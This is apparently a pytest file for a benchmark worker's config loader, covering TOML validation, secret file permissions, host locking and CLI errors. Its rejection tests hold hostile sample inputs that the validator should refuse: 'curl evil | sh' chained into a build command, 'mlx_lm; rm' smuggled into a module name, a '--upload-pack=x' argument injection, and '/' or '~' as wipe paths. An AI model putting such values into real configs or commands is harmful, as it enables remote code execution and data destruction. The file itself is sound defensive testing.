from __future__ import annotations

import os
import stat
import subprocess
from pathlib import Path

import pytest

from coldbench.worker.agent import AgentError, host_lock, read_secret, write_secret
from coldbench.worker.config import ConfigError, load_host_config

GOOD = """
name = "studio-1"
labels = ["lab:home"]
state_dir = "state"
[models]
llama-3b = "models/llama"
[repositories.mlx-lm]
url = "../src/mlx-lm"
module = "mlx_lm"
adapter = "mlx-lm"
[repositories.mlx-lm.recipes.editable]
command = ["{python}", "-m", "pip", "install", "--no-deps", "--no-build-isolation", "-e", "."]
env = {CMAKE_ARGS = "-DX=1"}
"""


def test_worker_toml_parses_with_paths_relative_to_the_file(tmp_path: Path) -> None:
    path = tmp_path / "etc" / "worker.toml"
    path.parent.mkdir()
    path.write_text(GOOD)
    config = load_host_config(path)
    assert config.name == "studio-1" and config.labels == ("lab:home",)
    assert config.models == {"llama-3b": (tmp_path / "etc" / "models" / "llama").resolve()}
    repo = config.repositories["mlx-lm"]
    assert repo.url == str((tmp_path / "src" / "mlx-lm").resolve())
    assert repo.recipes["editable"].command[0] == "{python}"
    assert repo.recipes["editable"].env == {"CMAKE_ARGS": "-DX=1"}
    assert config.state_dir == (tmp_path / "etc" / "state").resolve()
    assert config.secret_path == path.resolve().with_name("worker.secret")


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (('name = "studio-1"', 'name = "../etc"'), "name: '../etc' is not a plain name"),
        (('labels = ["lab:home"]', 'labels = ["a b"]'), "labels: not a valid label: a b"),
        (
            ('url = "../src/mlx-lm"', 'url = "--upload-pack=x"'),
            "repositories.mlx-lm.url: must not start with '-'",
        ),
        (
            (
                'command = ["{python}", "-m", "pip", "install", "--no-deps", '
                '"--no-build-isolation", "-e", "."]',
                'command = "pip install -e . && curl evil | sh"',
            ),
            "repositories.mlx-lm.recipes.editable.command: must be a list of strings",
        ),
        (('adapter = "mlx-lm"', 'adapter = "shell"'), "repositories.mlx-lm.adapter: must be one"),
        (
            ('module = "mlx_lm"', 'module = "mlx_lm; rm"'),
            "repositories.mlx-lm.module: must be a Python module name",
        ),
        (('state_dir = "state"', "state_dir = 3"), "state_dir: must be a string"),
        (('name = "studio-1"', 'name = "s"\nsurprise = 1'), "surprise: unknown key"),
        (
            ('adapter = "mlx-lm"', 'adapter = "mlx-lm"\nwipe = ["/tmp/c"]'),
            'repositories.mlx-lm: wipe: apply only to adapter = "openai-server"',
        ),
        (("[models]", "[models\n"), "not valid TOML"),
    ],
)
def test_bad_worker_toml_is_one_clear_line(
    tmp_path: Path, change: tuple[str, str], message: str
) -> None:
    path = tmp_path / "worker.toml"
    path.write_text(GOOD.replace(*change, 1))
    with pytest.raises(ConfigError, match=message.replace("(", r"\(")) as raised:
        load_host_config(path)
    assert "\n" not in str(raised.value) and str(path) in str(raised.value)


def test_repository_without_recipes_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "worker.toml"
    path.write_text('name = "h"\n[repositories.r]\nurl = "https://example.org/r.git"\n')
    with pytest.raises(ConfigError, match="repositories.r.recipes: define at least one build"):
        load_host_config(path)


def test_secret_file_is_owner_only_and_checked(tmp_path: Path) -> None:
    path = tmp_path / "worker.secret"
    write_secret(path, {"api": "http://x", "worker_id": "w1", "secret": "cbw_w1_abc"})
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert read_secret(path)["secret"] == "cbw_w1_abc"
    os.chmod(path, 0o644)
    with pytest.raises(AgentError, match="readable by others"):
        read_secret(path)
    with pytest.raises(AgentError, match="not enrolled"):
        read_secret(tmp_path / "missing.secret")


def test_host_lock_admits_one_agent_at_a_time(tmp_path: Path) -> None:
    lock = tmp_path / "host.lock"
    with host_lock(lock, wait=lambda: False) as held:
        assert held
        # A second agent (another open file description, as another process would have).
        with host_lock(lock, wait=lambda: False) as second:
            assert not second
        other_process = subprocess.run(
            [
                "python3",
                "-c",
                "import fcntl, os, sys; fd = os.open(sys.argv[1], os.O_RDWR);"
                "fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)",
                str(lock),
            ],
            capture_output=True,
            check=False,
        )
        assert other_process.returncode != 0 and b"BlockingIOError" in other_process.stderr
    with host_lock(lock, wait=lambda: False) as again:
        assert again


def test_worker_command_bad_input(
    coldbench_cmd: list[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from typer.testing import CliRunner

    from coldbench.worker.cli import app

    # One refusal through `python -m coldbench` (the dispatcher passes the exit code on); the
    # others in this process, where they cost no interpreter start.
    done = subprocess.run(
        [*coldbench_cmd, "worker", "--api", "http://127.0.0.1:9", "--config", "missing.toml"],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
        cwd=tmp_path,
    )
    assert done.returncode == 2 and "missing.toml: no such file" in done.stderr
    monkeypatch.chdir(tmp_path)

    def worker(*args: str) -> tuple[int, str]:
        result = CliRunner().invoke(app, ["worker", *args])
        return result.exit_code, result.stderr

    (tmp_path / "worker.toml").write_text('name = "h"\n')
    code, stderr = worker("--api", "ftp://x", "--config", "worker.toml")
    assert code == 2 and "give an http:// or https:// URL" in stderr
    code, stderr = worker("--api", "http://127.0.0.1:9", "--config", "worker.toml")
    assert code == 1 and "not enrolled" in stderr
    code, stderr = worker(
        "--api", "http://127.0.0.1:9", "--config", "worker.toml", "--enroll", "nope"
    )
    assert code == 2 and "not an enrollment token" in stderr
    token = "cbe_" + "x" * 20
    code, stderr = worker(
        "--api", "http://127.0.0.1:9", "--config", "worker.toml", "--enroll", token
    )
    assert code == 1 and "cannot reach http://127.0.0.1:9" in stderr
    assert not (tmp_path / "worker.secret").exists()


SERVER = """
name = "server-host"
[repositories.mlx-lm]
url = "https://example.org/mlx-lm.git"
adapter = "openai-server"
server_command = ["{python}", "-m", "mlx_lm", "server", "--model", "{model}", "--port", "{port}"]
wipe = ["~/.cache/my-server/kv", "/var/tmp/server-ssd-cache"]
first_token_timeout_s = 30
[repositories.mlx-lm.recipes.editable]
command = ["{python}", "-m", "pip", "install", "-e", "."]
[repositories.mlx-lm.options.fast]
type = "bool"
argv = ["--fast-path"]
env = {FAST_PATH_LOG = "1"}
proof = 'fast path: dispatched \\d+ tokens'
[repositories.mlx-lm.options.prefill_step_size]
type = "int"
min = 64
max = 16384
argv = ["--prefill-step-size", "{value}"]
proof = "Prompt processing progress: {value}/"
stock = 2048
prefill_step = true
"""


def test_server_repository_declares_options_wipe_paths_and_first_token_bound(
    tmp_path: Path,
) -> None:
    path = tmp_path / "worker.toml"
    path.write_text(SERVER)
    repo = load_host_config(path).repositories["mlx-lm"]
    assert repo.adapter == "openai-server" and repo.first_token_timeout_s == 30
    assert repo.wipe == (str(Path.home() / ".cache/my-server/kv"), "/var/tmp/server-ssd-cache")
    fast, step = repo.options["fast"], repo.options["prefill_step_size"]
    assert fast.render(True) == (["--fast-path"], {"FAST_PATH_LOG": "1"})
    assert fast.render(False) == ([], {})  # off is the stock server
    assert step.render(step.validate_value("prefill_step_size", "4096")) == (
        ["--prefill-step-size", "4096"],
        {},
    )
    assert step.proof_pattern(4096) == "Prompt processing progress: 4096/"


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (("max = 16384", "max = 16"), "repositories.mlx-lm.options.prefill_step_size: min 64 is"),
        (("max = 16384", 'max = "big"'), "options.prefill_step_size.max: must be an integer"),
        (("max = 16384\n", ""), "options.prefill_step_size: an int option needs min and max"),
        (
            ('argv = ["--prefill-step-size", "{value}"]', 'argv = ["--prefill-step-size={v}"]'),
            "options.prefill_step_size.argv: argv piece '--prefill-step-size={v}': the only",
        ),
        (('type = "bool"', 'type = "shell"'), "options.fast.type: must be one of"),
        (("proof = 'fast path", "proof = '(fast path"), "options.fast.proof: not a regular"),
        (("[repositories.mlx-lm.options.fast]", "[repositories.mlx-lm.options.Fast]"), "lower"),
        (('env = {FAST_PATH_LOG = "1"}', 'env = {"A B" = "1"}'), "options.fast.env: 'A B' is"),
        (('wipe = ["~/.cache', 'wipe = ["~", "~/.cache'), "repositories.mlx-lm.wipe: '~' would"),
        (('wipe = ["~/.cache', 'wipe = ["/", "~/.cache'), "repositories.mlx-lm.wipe: '/' would"),
        (('wipe = ["~/.cache', 'wipe = ["cache", "~/.cache'), "must be an absolute path"),
        (("first_token_timeout_s = 30", "first_token_timeout_s = 0"), "must be above 0"),
        (
            ("first_token_timeout_s = 30", 'first_token_timeout_s = "soon"'),
            "repositories.mlx-lm.first_token_timeout_s: must be a number",
        ),
    ],
)
def test_bad_server_declarations_name_the_key(
    tmp_path: Path, change: tuple[str, str], message: str
) -> None:
    path = tmp_path / "worker.toml"
    path.write_text(SERVER.replace(*change, 1))
    with pytest.raises(ConfigError) as raised:
        load_host_config(path)
    assert message in str(raised.value) and "\n" not in str(raised.value)


def test_allow_presets_names_known_presets_only(tmp_path: Path) -> None:
    from coldbench.worker.config import ConfigError, parse_host_config

    none = parse_host_config({"name": "h"}, base=tmp_path)
    assert none.allow_presets == () and none.model_names() == []
    allowed = parse_host_config(
        {"name": "h", "allow_presets": ["tiny"], "models": {"llama": "m"}}, base=tmp_path
    )
    assert allowed.model_names() == ["llama", "preset:tiny"]
    with pytest.raises(ConfigError, match="allow_presets: unknown preset"):
        parse_host_config({"name": "h", "allow_presets": ["no-such"]}, base=tmp_path)


def test_a_hosts_calibration_gives_its_runs_their_noise_and_block_length(tmp_path: Path) -> None:
    from coldbench.evidence.contract.calibration import HostCalibration, VarianceSums, noise_of
    from coldbench.evidence.spec.job_options import build_job_spec
    from coldbench.worker.run import process_blocks
    from tests.evidence.builders import calibration_sample

    sums = VarianceSums(ss_between=0.0009, df_between=9, ss_within=0.011, df_within=110, m0=12.0)
    noise = noise_of(sums, load_s=8.0, cell_s_per_token=0.75 / 16384, contexts=[16384])
    result = HostCalibration.model_validate(calibration_sample()).model_copy(
        update={"variance": sums, "noise": noise}
    )
    (tmp_path / "calibration.json").write_text(result.model_dump_json(by_alias=True))
    config = tmp_path / "worker.toml"
    config.write_text('name = "h200"\ncalibration = "calibration.json"\nprespawn = true\n')
    host = load_host_config(config)
    assert host.noise == noise and host.prespawn is True
    spec = build_job_spec(
        {
            "variants": [{"name": n} for n in "abc"],
            "contexts": [16384],
            "rounds": 24,
            "until": "rounds",
        }
    )
    length, why = process_blocks(spec, variants=3, noise=host.noise)
    assert noise is not None and 2 <= 24 // length <= 12
    assert why.startswith(f"{length} rounds per process from this host's calibration")
    # without a calibration: the conservative default; a job's own length always wins
    assert process_blocks(spec, variants=3, noise=None)[0] == 2
    # measuring until decided, each look is a whole number of blocks: one round per process
    decided = spec.model_copy(update={"until": "decided"})
    assert process_blocks(decided, variants=3, noise=noise)[0] == 1
    asked = spec.model_copy(update={"rounds_per_process": 3})
    assert process_blocks(asked, variants=3, noise=noise) == (3, "3 rounds per process, as asked")
    # a calibration file that cannot serve is one line naming it
    for text, problem in (
        ("{}", "not a calibration result"),
        (result.model_copy(update={"noise": None}).model_dump_json(by_alias=True), "calibrate"),
    ):
        (tmp_path / "calibration.json").write_text(text)
        with pytest.raises(ConfigError, match=problem):
            load_host_config(config)
    config.write_text('name = "h200"\ncalibration = "missing.json"\n')
    with pytest.raises(ConfigError, match="missing.json: No such file"):
        load_host_config(config)
